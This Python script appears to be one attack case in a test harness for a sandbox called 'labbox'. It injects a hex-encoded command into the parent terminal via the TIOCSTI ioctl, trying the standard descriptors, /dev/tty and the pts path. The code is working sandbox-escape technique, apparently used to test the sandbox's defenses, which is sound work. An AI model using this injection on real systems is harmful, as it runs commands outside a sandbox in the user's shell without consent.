"""Type a command into the terminal labbox was started from (TIOCSTI pushes bytes into the
terminal's input queue: the shell runs them once labbox exits). Every way in: the standard
descriptors, /dev/tty, and the terminal's /dev/pts path. The command is kept hex-encoded so
that it never appears in the experiment's own output."""
import fcntl
import os
import termios

from attack import A, P

payload = bytes.fromhex(P["payload_hex"])


def inject(fd):
    for c in payload:
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
    return "injected"


def inject_path(path):
    fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    try:
        return inject(fd)
    finally:
        os.close(fd)


A.attempt("stdin", inject, 0)
A.attempt("stdout", inject, 1)
A.attempt("stderr", inject, 2)
A.attempt("dev_tty", inject_path, "/dev/tty")
A.attempt("pts_path", inject_path, P["pts"])
A.finish(reraise="stdin")
